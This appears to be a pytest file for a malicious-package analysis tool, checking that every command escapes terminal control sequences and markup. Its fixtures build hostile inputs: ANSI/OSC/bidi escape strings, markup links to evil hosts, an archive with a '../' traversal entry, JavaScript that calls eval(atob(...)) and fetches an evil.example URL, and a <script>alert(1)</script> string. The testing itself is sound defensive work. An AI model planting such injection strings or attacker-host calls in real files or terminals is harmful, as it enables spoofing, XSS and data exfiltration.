"""Hostile text never reaches a terminal raw: ANSI, OSC, C1, bidi and rich markup put into
every attacker-controlled field, run through every command that prints. What comes out has
no control character, and markup is shown as written, never obeyed."""

from __future__ import annotations

import json
from pathlib import Path

import networkx as nx
import pytest
import typer.main

from malgraph.cli import app, explore, ingest, report, run  # noqa: F401  (registers them)
from malgraph.cli import code as _code  # noqa: F401
from malgraph.store import Store
from tests.artifacts.hostile import tar_of
from tests.conftest import origin, osv, write_json

CLEAR = "\x1b[2J"
OSC_LINK = "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"
OSC_TITLE = "\x1b]0;title\x07"
MARKUP = "[bold red]x[/]"
MARKUP_LINK = "[link=http://evil]x[/link]"
OVERWRITE = "fine\roverwritten"
C1_CSI = "\x9b31m"
BIDI = "\u202eevil"
CORPUS = [CLEAR, OSC_LINK, OSC_TITLE, MARKUP, MARKUP_LINK, OVERWRITE, C1_CSI, BIDI, ":warning:"]
ALL = "".join(CORPUS)


def hostile_record() -> dict[str, object]:
    """A package with a plain name and hostile text everywhere else a source can put it."""
    doc = osv(
        "MAL-2024-1",
        "hostile-pkg",
        versions=["1.0.0", "2.0.0" + CLEAR, "3.0.0" + MARKUP],
        origins=[
            origin(MARKUP, "GHSA-" + OSC_TITLE, ["1.0.0"]),
            origin(MARKUP_LINK + C1_CSI, "RL-" + BIDI, ["2.0.0" + CLEAR]),
        ],
        aliases=["ALIAS-" + OSC_LINK],
        references=[{"type": "ARTICLE", "url": "https://blog.example/" + MARKUP + OSC_TITLE}],
    )
    doc["summary"], doc["details"] = ALL, ALL
    doc["database_specific"]["iocs"] = {  # type: ignore[index]
        "urls": ["https://evil.example/" + MARKUP_LINK, "https://evil.example/" + OSC_TITLE],
        "domains": [C1_CSI + "evil.example"],
    }
    return doc


@pytest.fixture
def inputs(tmp_path: Path) -> Path:
    osv_dir = tmp_path / "osv"
    write_json(osv_dir / "hostile.json", hostile_record())
    write_json(osv_dir / "bad-name.json", osv("MAL-2024-2", "esc" + CLEAR + "name"))
    mixed = osv("MAL-2024-3", "kept-pkg")
    mixed["affected"].append({"package": {"ecosystem": "npm", "name": OSC_TITLE + "x"}})  # type: ignore[attr-defined]
    mixed["affected"].append({"package": {"ecosystem": "npm" + CLEAR, "name": "y"}})  # type: ignore[attr-defined]
    write_json(osv_dir / "mixed.json", mixed)
    (osv_dir / f"name{OSC_TITLE}[bold red]x.json").write_text("{ not json")  # no "/" in a name
    lists = tmp_path / "lists"
    lists.mkdir()
    (lists / "team.csv").write_text(
        f"ecosystem,name,source\nnpm,listed-pkg,team\nnpm,bidi{BIDI},team\nnpm,osc{OSC_LINK},team\n"
    )
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "write-up.md").write_text(
        f"# {OSC_TITLE}{MARKUP} Report\n\nRun `npm install hostile-pkg` to get "
        f"{MARKUP_LINK} {CLEAR} hxxps://c2{C1_CSI}.example/x\n"
    )
    archives = tmp_path / "archives"
    archives.mkdir()
    code = b"eval(atob('x')); fetch('https://evil.example/" + MARKUP_LINK.encode() + b"');\n"
    (archives / f"hostile-pkg-1.0.0{OSC_TITLE}.tgz").write_bytes(
        tar_of(
            [
                (
                    "package/package.json",
                    json.dumps(
                        {"name": "hostile-pkg", "version": "1.0.0", "scripts": {"postinstall": ALL}}
                    ).encode(),
                ),
                (f"package/{CLEAR}{MARKUP}.js", code),
                (f"../{OSC_LINK}", b"x"),
                (f"package/{BIDI}{C1_CSI}.js", code),
            ]
        )
    )
    return tmp_path


def printable(text: str) -> list[str]:
    """The lines of `text` that carry a character a terminal would not just show."""
    return [line for line in text.split("\n") if not line.isprintable()]


def test_every_command_that_prints(
    inputs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "m.db")
    archive = next((inputs / "archives").iterdir())
    commands: list[tuple[list[str], int]] = [
        (["ingest", "osv", str(inputs / "osv")], 1),
        (["ingest", "list", str(inputs / "lists")], 1),
        (["ingest", "reports", str(inputs / "reports")], 0),
        (["build", str(inputs / "osv")], 1),
        (["stats"], 0),
        (["stats", "--format", "json"], 0),
        (["show", "hostile-pkg"], 0),
        (["show", "--format", "json", "hostile-pkg"], 0),
        (["show", "esc" + CLEAR + "name"], 1),
        (["sources"], 0),
        (["families"], 0),
        (["families", "--format", "json"], 0),
        (["relate"], 0),
        (["fetch", "--offline", "--from", str(inputs / "archives")], 0),
        (["analyze"], 0),
        (["analyze", str(archive)], 0),
        (["analyze", "--format", "json", str(archive)], 0),
        (["report", "--format", "json"], 0),
        (["report", str(tmp_path / "out")], 0),
        (["export", "graphml", str(tmp_path / "graph.graphml")], 0),
        (["export", "node-link", str(tmp_path / ("graph" + OSC_TITLE + ".json"))], 0),
        (["check", str(archive)], 1),
        (["check", "--format", "markdown", str(archive)], 1),
        (["check", "--format", "sarif", str(archive)], 1),
        (["check", "--format", "json", str(archive)], 1),
        (["check", str(inputs / ("missing" + OSC_LINK))], 2),
        (["show", "no-such" + OSC_TITLE], 1),
        (["ingest", OSC_TITLE, str(inputs)], 2),
        (["relate", "--kinds", MARKUP + CLEAR], 2),
        (["analyze", str(inputs / ("missing" + OSC_LINK))], 2),
        (["serve", "--host", "host" + OSC_TITLE], 2),  # refused before it serves: it returns
    ]
    every = set(typer.main.get_command(app).commands)  # type: ignore[attr-defined]
    assert every <= {argv[0] for argv, _ in commands}, "a command this test does not run"
    outputs = {}
    for argv, expected in commands:
        status = run(["--db", db, *argv])
        captured = capsys.readouterr()
        name = " ".join(argv)
        assert status == expected, f"{name}: {status}\n{captured.err}"
        assert printable(captured.out + captured.err) == [], name
        outputs[name] = captured
    flat = {name: "".join(c.out.split()) + "".join(c.err.split()) for name, c in outputs.items()}
    # Stored text with control characters (a version, a report) cannot break the XML.
    assert nx.read_graphml(tmp_path / "graph.graphml").number_of_nodes() > 0

    # Names with control characters were rejected with their file; the rest went in.
    ingest_err = outputs[f"ingest osv {inputs / 'osv'}"].err
    assert "bad-name.json: package name 'esc\\x1b[2Jname' has U+001B" in ingest_err
    assert "mixed.json: package name" in ingest_err and "\\x1b]0;title\\x07x" in ingest_err
    assert "mixed.json: ecosystem 'npm\\x1b[2J' has U+001B" in ingest_err
    assert "name\\x1b]0;title\\x07[bold red]x.json: not valid JSON" in ingest_err
    list_err = outputs[f"ingest list {inputs / 'lists'}"].err
    assert "U+202E" in list_err and "U+001B" in list_err
    with Store(db) as store:
        names = {n for (n,) in store.db.execute("SELECT name FROM packages")}
    assert {"hostile-pkg", "kept-pkg", "listed-pkg"} <= names
    assert all(name.isprintable() for name in names)

    # Markup is printed as written; control characters as their escapes.
    show = flat["show hostile-pkg"]
    for literal in (
        MARKUP,
        "[link=http://evil]x[/link]\\x9b31m",
        "2.0.0\\x1b[2J",
        "RL-\\u202eevil",
        "blog.example/[bold red]x[/]\\x1b]0;title\\x07",
    ):
        assert "".join(literal.split()) in show, literal
    assert "".join(MARKUP.split()) in flat["stats"]
    analysed = flat[f"analyze {archive}"]
    assert "".join(f"skipped ../{OSC_LINK}".split()).replace("\x1b", "\\x1b") in analysed
    assert "\\x1b[2J[boldred]x[/].js" in analysed
    assert "ingest\\x1b]0;title\\x07" in flat[f"ingest {OSC_TITLE} {inputs}"] or (
        "'\\x1b]0;title\\x07'" in flat[f"ingest {OSC_TITLE} {inputs}"]
    )

    # JSON is still the same value, hostile text included.
    cards = json.loads(outputs["show --format json hostile-pkg"].out)
    assert "2.0.0" + CLEAR in cards[0]["versions"] and MARKUP in cards[0]["sources"]
    assert json.loads(outputs[f"analyze --format json {archive}"].out)[0]["path"] == str(archive)
    assert MARKUP_LINK + C1_CSI in json.loads(outputs["stats --format json"].out)["by_source"]


def test_a_source_name_with_html_is_escaped_in_the_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = osv(
        "MAL-9",
        "html-pkg",
        versions=["1.0"],
        origins=[origin("<script>alert(1)</script>" + CLEAR, "X-1", ["1.0"])],
    )
    write_json(tmp_path / "in" / "a.json", doc)
    db = str(tmp_path / "m.db")
    assert run(["--db", db, "ingest", "osv", str(tmp_path / "in")]) == 0
    assert run(["--db", db, "report", str(tmp_path / "out")]) == 0
    assert printable(capsys.readouterr().out) == []
    page = (tmp_path / "out" / "index.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert" not in page


def test_the_escapes() -> None:
    from malgraph.cli.safe import json_safe, shown

    text = json.dumps({"k": "a\x9bb\u202ec\U000e0041d"}, ensure_ascii=False)
    safe = json_safe(text)
    assert safe.isprintable() and json.loads(safe) == json.loads(text)
    assert shown("\x1b[2J[bold]x[/bold]") == "\\x1b[2J\\[bold]x\\[/bold]"
